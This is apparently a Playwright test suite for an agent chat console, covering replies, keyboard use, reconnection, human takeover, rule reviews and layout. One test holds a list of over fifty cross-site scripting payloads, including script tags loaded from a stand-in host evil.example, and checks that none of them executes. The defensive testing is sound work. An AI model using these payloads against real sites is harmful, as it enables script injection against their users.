"""The console in a real browser."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect, sync_playwright

from tests.server.conftest import make_agents
from tests.server.relay import Relay
from tests.server.served import Served, served

pytestmark = pytest.mark.browser
CHROMIUM = "/usr/bin/chromium"

TAGS = ["script", "img src=x onerror", "svg onload", "iframe src", "body onload", "video src=x onerror",
        "details open ontoggle", "input autofocus onfocus", "marquee onstart", "object data", "embed src", "math href"]
PAYLOADS = [
    *[f"<{tag}={'javascript:' if tag.endswith(('src', 'data', 'href')) else ''}window.hit=1>" for tag in TAGS[1:]],
    "<script>window.hit=1</script>", "<ScRiPt>window.hit=1</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>", "\"><script>window.hit=1</script>",
    "'><img src=x onerror=window.hit=1>", "</textarea><script>window.hit=1</script>", "</title><script>hit=1</script>",
    "</style><script>window.hit=1</script>", "</pre><script>window.hit=1</script>", "--><script>window.hit=1</script>",
    "]]><script>window.hit=1</script>", "<a href=javascript:window.hit=1>x</a>", "javascript:window.hit=1",
    "<img src=`x` onerror=`window.hit=1`>", "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>", "<svg><use href=data:image/svg+xml,x>",
    "<math><mi xlink:href=javascript:window.hit=1>x", "<base href=//evil.example/>", "<meta http-equiv=refresh "
    "content=0;url=javascript:window.hit=1>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>", "<form action=javascript:window.hit=1><input type=submit>",
    "<button formaction=javascript:window.hit=1>x</button>", "<template><script>window.hit=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">", "{{constructor.constructor('hit=1')()}}",
    "${window.hit=1}", "`${window.hit=1}`", "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "&lt;script&gt;window.hit=1&lt;/script&gt;", "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E", "<img/src/onerror=window.hit=1>", "<\x00script>window.hit=1</script>",
    "<x onclick=window.hit=1 tabindex=1 id=x>", "data:text/html,<script>window.hit=1</script>",
    "\n\nevent: turn.completed\ndata: {\"reply\": \"<script>window.hit=1</script>\"}\n\n",
    "__proto__", "constructor", "<dialog open onclose=window.hit=1>", "<iframe srcdoc='<script>top.hit=1</script>'>",
]


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A server with an agent whose own words are payloads too: its name, a rule, a template."""
    root: Path = tmp_path_factory.mktemp("house")
    agents = make_agents(root / "agents")
    head = agents / "closed" / "agent.yaml"
    text = re.sub(r"^name: .*$", "name: '<img src=x onerror=window.hit=1>'", head.read_text(), flags=re.M)
    head.write_text(text)
    rules = agents / "closed" / "rules.yaml"
    rules.write_text(rules.read_text().replace("The visitor asks when the museum is open",
                                               "The visitor asks <img src=x onerror=window.hit=1> when it is open"))
    templates = agents / "closed" / "templates.yaml"
    templates.write_text(templates.read_text().replace("The museum is open", "<svg onload=window.hit=1> is open"))
    strict = agents / "strict"
    strict.mkdir()
    (strict / "agent.yaml").write_text("name: Strict\n")
    (strict / "rules.yaml").write_text(
        "- {id: price, if: the user asks what it costs, then: It costs 90 euros., examples: [what does it cost]}\n"
        "- {id: cap, if: a price is named, then: At most 50., hard: true, enforce: reply.amount <= 50}\n")
    with served(root / "data", agents, io.StringIO()) as running:
        yield running


@pytest.fixture(scope="module")
def relay(house: Served) -> Iterator[Relay]:
    """What the browser talks to instead of the server itself."""
    between = Relay(house.port)
    yield between
    between.close()


@pytest.fixture(scope="module")
def page(house: Served, relay: Relay) -> Iterator[Page]:
    """The console, signed in by its link."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        opened = browser.new_page()
        opened.set_default_timeout(15_000)
        opened.goto(house.ready.console.replace(f":{house.port}", f":{relay.port}"))
        expect(opened.locator("#message")).to_be_enabled()
        yield opened
        browser.close()


def choose(page: Page, agent: str) -> None:
    """The field is closed until the agent's conversation is there."""
    page.select_option("#agent", agent)
    expect(page.locator("#message")).to_be_enabled()


def say(page: Page, text: str) -> None:
    answered = page.locator(".chips").count()
    page.fill("#message", text)
    page.press("#message", "Enter")
    expect(page.locator(".chips")).to_have_count(answered + 1)


def test_a_question_is_answered_and_explained_and_the_focus_stays_in_the_field(page: Page) -> None:
    choose(page, "kiosk")
    expect(page.locator("#empty-title")).to_have_text("Kiosk")
    say(page, "When do you open?")
    expect(page.locator(".agent .text").last).to_contain_text("Tuesday to Sunday")
    expect(page.locator("#trace")).to_contain_text("opening_hours")
    expect(page.locator(".waterfall tr").first).to_be_visible()
    expect(page.locator(".chip.risk-green")).to_be_visible()
    assert page.evaluate("document.activeElement.id") == "message"
    assert "#" not in page.url, "the one-time code does not stay in the address"


def test_earlier_turns_are_reached_by_keyboard(page: Page) -> None:
    choose(page, "kiosk")
    page.click("#new")
    say(page, "When do you open?")
    say(page, "Where can I get a coffee?")
    page.press("#message", "Escape")
    page.keyboard.press("k")
    expect(page.locator("#trace-title")).to_have_text("Turn 1 of 2")
    page.keyboard.press("j")
    expect(page.locator("#trace-title")).to_have_text("Last turn")
    page.keyboard.press("?")
    expect(page.locator("#keys")).to_be_visible()
    page.keyboard.press("Escape")
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.id") == "message"


def test_a_scenario_is_drawn_with_its_current_step(page: Page) -> None:
    choose(page, "frontdesk")
    say(page, "I want to know my bank balance please")
    expect(page.locator(".graph .node.current")).to_have_count(1)
    assert page.locator(".graph .edge").count() >= 2


def test_the_conversation_is_there_after_a_reload(page: Page) -> None:
    choose(page, "kiosk")
    page.click("#new")
    say(page, "Are there lockers?")
    page.reload()
    expect(page.locator("#message")).to_be_enabled()
    choose(page, "kiosk")
    expect(page.locator(".user .text").last).to_have_text("Are there lockers?")


def test_a_lost_connection_is_shown_and_the_answer_comes_when_it_is_back(page: Page) -> None:
    choose(page, "kiosk")
    page.context.set_offline(True)
    answered = page.locator(".chips").count()
    page.fill("#message", "May I use my camera?")
    page.press("#message", "Enter")
    expect(page.locator("#link")).to_contain_text("Connection lost")
    page.context.set_offline(False)
    expect(page.locator(".chips")).to_have_count(answered + 1)
    expect(page.locator("#link")).to_have_text("")
    expect(page.locator(".user .text").last).to_have_text("May I use my camera?")


def test_a_connection_cut_in_the_middle_of_a_turn_goes_on_from_the_cursor(page: Page, relay: Relay) -> None:
    choose(page, "kiosk")
    page.click("#new")
    page.fill("#message", "Is there a guide?")
    with page.expect_response("**/v1/chat/stream"):
        page.press("#message", "Enter")
    with page.expect_request(re.compile(r"/v1/sessions/\w+/events\?after=\d+$")):
        relay.cut()
    expect(page.locator(".chips")).to_have_count(1)
    expect(page.locator(".agent .text")).to_have_count(1)


@pytest.mark.long
@pytest.mark.timeout(300)
def test_no_payload_in_a_message_a_rule_or_a_reply_runs_as_script(page: Page) -> None:
    """Security item 14: fifty payloads and more."""
    assert len(PAYLOADS) >= 50
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    choose(page, "closed")
    for payload in [*PAYLOADS, "When do you open?"]:
        say(page, payload)
        page.locator("details.raw").evaluate("(details) => { details.open = true; }")
        assert page.evaluate("window.hit") is None, payload
    expect(page.locator("#trace")).to_contain_text("<img src=x onerror=window.hit=1>")
    expect(page.locator(".agent .text").last).to_contain_text("<svg onload=window.hit=1>")
    shown = page.locator(".user .text").all_text_contents()
    for payload in PAYLOADS:
        assert any(payload.strip().replace("\x00", "") in text.replace("\x00", "").replace("\ufffd", "")
                   for text in shown), payload
    assert page.locator("#log script, #log img:not([src='/icon.svg']), #trace script, #trace img").count() == 0
    origin = page.evaluate("location.origin")
    assert {url for url in requested if not url.startswith(origin)} == set()


def test_a_person_takes_a_conversation_over_speaks_and_gives_it_back(page: Page) -> None:
    choose(page, "kiosk")
    page.click("#new")
    say(page, "When do you open?")
    desk = page.locator("#desk")
    desk.get_by_role("button", name="Take over").click()
    expect(desk).to_contain_text("console has this conversation.")
    desk.get_by_role("textbox").fill("A colleague here: we open at ten today.")
    desk.get_by_role("button", name="Say it").click()
    expect(page.locator(".agent .text").last).to_have_text("A colleague here: we open at ten today.")
    desk.get_by_role("button", name="Give back").click()
    expect(desk.get_by_role("button", name="Take over")).to_be_visible()
    say(page, "Are there lockers?")
    expect(page.locator(".agent .text").last).to_contain_text("locker")


def test_a_turn_that_broke_a_rule_waits_for_a_review_is_explained_and_judged(page: Page) -> None:
    choose(page, "strict")
    page.click("#new")
    say(page, "what does it cost")
    page.click("#view-reviews")
    waiting = page.locator("#trace > section")
    expect(waiting).to_have_count(1)
    waiting.get_by_role("button", name="Open").click()
    expect(waiting).to_contain_text("cap: does not hold: reply.amount <= 50")
    waiting.get_by_role("button", name="Approve").click()
    expect(waiting).to_contain_text("Write why first.")
    waiting.get_by_role("textbox").fill("the cap is right")
    waiting.get_by_role("button", name="Explain").click()
    expect(waiting.locator("pre")).to_contain_text("The risk is RED.")
    waiting.get_by_role("button", name="Reject").click()
    expect(waiting).to_contain_text("Rejected.")
    page.click("#view-turn")
    page.click("#view-reviews")
    expect(page.locator("#trace")).to_contain_text("Nothing waits for a review.")


def test_what_is_kept_of_a_person_is_shown(page: Page) -> None:
    choose(page, "frontdesk")
    page.click("#new")
    say(page, "I want to know my bank balance please")
    say(page, "my name is Ada Lovelace")
    page.click("#view-person")
    expect(page.locator("#view-person")).to_have_attribute("aria-pressed", "true")
    expect(page.locator("#trace")).to_contain_text("Known of console")
    page.click("#view-turn")
    expect(page.locator("#trace")).to_contain_text("Phases")


def look_for(page: Page, person: str) -> None:
    """The conversations of one person, in a list that is made anew."""
    page.click("#view-explain")
    page.click("#view-sessions")
    page.fill("#trace input[type=search]", person)
    page.press("#trace input[type=search]", "Enter")
    expect(page.locator("#trace section.block")).to_have_count(1)


def test_conversations_of_everybody_are_listed_opened_and_explained(page: Page, house: Served) -> None:
    token = house.token(sub="zoe-of-the-list")
    for text in ("Is there a cloakroom?", "Are there lockers?"):
        house.chat(text, token)
    look_for(page, "zoe-of-the-list")
    cards = page.locator("#trace section.block")
    expect(cards).to_contain_text("2 turns")
    cards.get_by_role("button", name="Open").click()
    expect(cards.locator(".transcript li")).to_have_count(2)
    expect(cards.locator(".transcript li").first).to_contain_text("Is there a cloakroom?")
    cards.locator(".transcript .chips").last.click()
    expect(page.locator("#trace")).to_contain_text("Phases")
    page.get_by_role("button", name="← Conversations").click()
    expect(page.locator("#trace section.block")).not_to_have_count(0)


def test_a_person_takes_over_out_of_the_list(page: Page, house: Served) -> None:
    house.chat("Is there a cloakroom?", house.token(sub="yan-of-the-list"))
    look_for(page, "yan-of-the-list")
    card = page.locator("#trace section.block")
    card.get_by_role("button", name="Open").click()
    card.get_by_role("button", name="Take over").click()
    expect(card).to_contain_text("console has this conversation.")
    card.get_by_role("textbox").fill("A colleague is on the way.")
    card.get_by_role("button", name="Say it").click()
    expect(card.locator(".transcript li").last).to_have_text("A colleague is on the way.")
    card.get_by_role("button", name="Give back").click()
    expect(card.get_by_role("button", name="Take over")).to_be_visible()


def test_a_text_is_explained_with_every_score_and_without_being_said(page: Page) -> None:
    choose(page, "frontdesk")
    page.click("#new")
    page.click("#view-explain")
    page.fill("#trace input", "what is my bank balanse")
    page.press("#trace input", "Enter")
    expect(page.locator("#trace tbody tr").first).to_contain_text("A balance is stated")
    expect(page.locator("#trace")).to_contain_text("balanse read as balance")
    assert page.locator("#log .bubble").count() == 0


@pytest.mark.parametrize("width", [320, 390, 768, 1280])
def test_nothing_sticks_out_of_a_narrow_screen(page: Page, width: int) -> None:
    choose(page, "frontdesk")
    say(page, "I want to know my bank balance please")
    page.set_viewport_size({"width": width, "height": 800})
    try:
        for name in ("turn", "explain", "sessions", "person", "reviews"):
            page.click(f"#view-{name}")
            expect(page.locator(f"#view-{name}")).to_have_attribute("aria-pressed", "true")
            assert page.evaluate("document.documentElement.scrollWidth") <= width, name
    finally:
        page.set_viewport_size({"width": 1280, "height": 720})


@pytest.mark.parametrize(("code", "says"), [("x" * 300, "The one-time code is wrong."),
                                            ("x" * 20, "This link does not work any more."),
                                            ("", "You are not signed in.")], ids=["no code", "used", "none"])
def test_a_code_that_is_wrong_is_called_so(page: Page, relay: Relay, code: str, says: str) -> None:
    browser = page.context.browser
    assert browser is not None
    stranger = browser.new_context().new_page()
    stranger.goto(f"http://127.0.0.1:{relay.port}/#{code}")
    expect(stranger.locator("#empty-title")).to_have_text(says)
    stranger.close()
